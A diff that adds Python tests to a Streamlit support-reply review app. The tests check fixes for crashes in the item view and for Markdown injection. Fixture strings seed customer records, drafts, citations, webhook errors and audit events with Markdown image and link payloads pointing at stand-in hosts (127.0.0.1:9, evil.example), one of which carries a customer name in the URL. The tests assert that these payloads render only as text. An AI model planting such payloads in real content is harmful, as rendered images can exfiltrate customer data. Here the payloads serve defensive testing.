@@ -91,3 +91,145 @@ def test_other_pages_render(demo_dir, page):
 def test_settings_page_is_admin_only(demo_dir):
     at = run("ui/pages/settings.py", AGENT)
     assert not at.exception and any("Nur Admins" in i.value for i in at.info)
+
+
+# ---- issue 12: crashes in the item view, Markdown injection ------------------------------------------------
+def _message_id(external_id: str) -> str:
+    from sqlalchemy import select
+
+    from assistant.orm import Message
+    from replydesk.db import get_database
+
+    with get_database().session() as s:
+        return s.scalar(select(Message.id).where(Message.external_id == external_id))
+
+
+def _button(at: AppTest, label: str):
+    found = [b for b in at.button if b.label == label]
+    assert found, (label, [b.label for b in at.button])
+    return found[0]
+
+
+def test_item_with_two_findings_of_the_same_rule_renders(demo_dir):
+    """Issue 12 item 1: the README's "Sorry, wir kümmern uns darum." has two `structure` warnings (greeting and
+    sign-off); the item view crashed with StreamlitDuplicateElementKey and the approve button never appeared."""
+    mid = _message_id("demo-002")
+    at = run("ui/pages/review.py", AGENT, open_id=mid)
+    at.text_area(key=f"draft_{mid}").input("Sorry, wir kümmern uns darum.").run()
+    assert not at.exception, at.exception
+    reasons = [t for t in at.text_input if "structure" in t.label]
+    assert len(reasons) >= 2
+    assert _button(at, "Freigeben & posten").disabled  # blocked by no-bare-sorry, but there
+
+
+def test_regenerate_and_move_to_private_do_not_crash(demo_dir):
+    """Issue 12 item 2: both buttons set the draft editor's state after it was rendered
+    (StreamlitWidgetAlreadyInstantiatedError); regenerate stored versions identical to the first."""
+    from sqlalchemy import func, select
+
+    from assistant.orm import Draft
+    from replydesk.db import get_database
+
+    mid = _message_id("demo-003")
+    at = run("ui/pages/review.py", AGENT, open_id=mid)
+    original = at.text_area(key=f"draft_{mid}").value
+    at.text_area(key=f"draft_{mid}").input("Hallo, kurz notiert. ^AB").run()
+    _button(at, "Neu entwerfen").click().run()
+    assert not at.exception, at.exception
+    assert at.text_area(key=f"draft_{mid}").value == original  # the composer's draft again
+    with get_database().session() as s:
+        assert s.scalar(select(func.count()).select_from(Draft).where(Draft.message_id == mid)) == 1
+    _button(at, "In privaten Kanal verlegen").click().run()
+    assert not at.exception, at.exception
+    assert "DM" in at.text_area(key=f"draft_{mid}").value
+    assert at.text_area(key=f"dm_{mid}").value
+
+
+HOSTILE = "![](http://127.0.0.1:9/x.png)\n\n![](//127.0.0.1:9/y.png?n=Anna)\n\n[click](http://evil.example) www.evil.example"
+
+
+def _markdown_leaks(body: str) -> list[str]:
+    """Images, links and raw <img>/<a> a Markdown body would render (CommonMark with HTML, plus GFM autolinks)."""
+    import re
+
+    from markdown_it import MarkdownIt
+
+    leaks: list[str] = []
+
+    def walk(tokens):
+        for t in tokens:
+            if t.type in ("image", "link_open"):
+                leaks.append(f"{t.type}: {body!r}")
+            if t.type in ("html_block", "html_inline") and re.search(r"<\s*(img|a)\b", t.content, re.I):
+                leaks.append(f"raw html: {t.content!r}")
+            walk(t.children or [])
+
+    walk(MarkdownIt("commonmark").parse(body))
+    if re.search(r"https?:|www\.|//127", body):
+        leaks.append(f"autolink/url text: {body!r}")
+    return leaks
+
+
+def _rendered_leaks(at: AppTest) -> list[str]:
+    import re
+
+    leaks: list[str] = []
+
+    def walk(node):
+        proto = getattr(node, "proto", None)
+        kind = getattr(node, "type", None)
+        if proto is not None and hasattr(proto, "DESCRIPTOR"):
+            fields = {f.name for f in proto.DESCRIPTOR.fields}
+            if kind == "html" and re.search(r"<\s*(img|a)\b", proto.body, re.I):
+                leaks.append(f"html: {proto.body!r}")
+            elif kind not in ("text", "code", "html"):
+                for name in ("body", "label"):
+                    if name in fields and getattr(proto, name):
+                        leaks.extend(_markdown_leaks(getattr(proto, name)))
+        for child in getattr(node, "children", {}).values():
+            walk(child)
+
+    walk(at._tree)
+    return leaks
+
+
+def test_customer_and_model_text_render_as_text(demo_dir):
+    """Issue 12 item 13: a draft with `![](…)` after a blank line rendered as a live image (exfiltration), and
+    handles, thread messages, customer data, finding messages and webhook errors were Markdown too."""
+    import uuid
+
+    from assistant.orm import AuditEvent, Customer, CustomerHandle, Draft, Message
+    from assistant.review.orm import Approval
+    from replydesk.db import get_database
+
+    mid, cid = uuid.uuid4().hex, f"K-{uuid.uuid4().hex[:6]}"
+    handle = "@x [click](http://evil.example)"
+    with get_database().transaction() as s:
+        s.add(Customer(id=cid, display_name="Eve ![](http://127.0.0.1:9/c.png)", first_name="Eve", language="de",
+                       address_form="du", followers=10, dm_allowed=True, notes="[note](http://evil.example)"))
+        s.flush()
+        s.add(CustomerHandle(customer_id=cid, channel="twitter", handle=handle))
+        for i, text in enumerate([HOSTILE, "earlier " + HOSTILE]):
+            s.add(Message(id=mid if i == 0 else uuid.uuid4().hex, external_id=f"hostile-{mid}-{i}", channel="twitter",
+                          visibility="public", author_handle=handle, customer_id=cid, text=text, raw={},
+                          thread_id=f"t-{mid}", status="drafted" if i == 0 else "posted", risk=0.1, attempts=0,
+                          language="de",
+                          triage={"intent": {"value": "[i](http://evil.example)", "reason": HOSTILE}}))
+        s.flush()
+        s.add(Draft(message_id=mid, version=1, engine="llm", text="Hallo Eve,\n\n" + HOSTILE + "\n^AB", language="de",
+                    citations=[{"kind": "kb", "ref": "x#0", "title": "[t](http://evil.example)", "text": HOSTILE}],
+                    findings=[], passed=False, needs_human=True, latency_ms=1.0, tokens_in=0, tokens_out=0,
+                    cost_usd=0.0, meta={}, fallback_reason="LLM said ![](http://127.0.0.1:9/f.png)"))
+        s.add(Approval(message_id=mid, text=HOSTILE, channel="twitter", visibility="public", author="ben",
+                       needs_second=False, overrides=[], state="failed", idempotency_key=uuid.uuid4().hex,
+                       attempts=1, receipt={}, error="webhook said ![](http://127.0.0.1:9/w.png) [click](http://evil.example)"))
+        s.add(AuditEvent(actor="[eve](http://evil.example)", action="post_failed", message_id=mid,
+                         data={"error": HOSTILE, "reason": "[r](http://evil.example)"}))
+    at = run("ui/pages/review.py", AGENT, open_id=mid)
+    assert not at.exception, at.exception
+    assert at.text_area(key=f"draft_{mid}").value.startswith("Hallo Eve")
+    assert _rendered_leaks(at) == []
+    audit = run("ui/pages/audit.py", {"username": "ada", "display_name": "Ada", "roles": ["admin"]})
+    assert not audit.exception and _rendered_leaks(audit) == []
+    shell = run("app.py", {"username": "eve", "display_name": "![](http://127.0.0.1:9/u.png)", "roles": ["agent"]})
+    assert _rendered_leaks(shell) == []
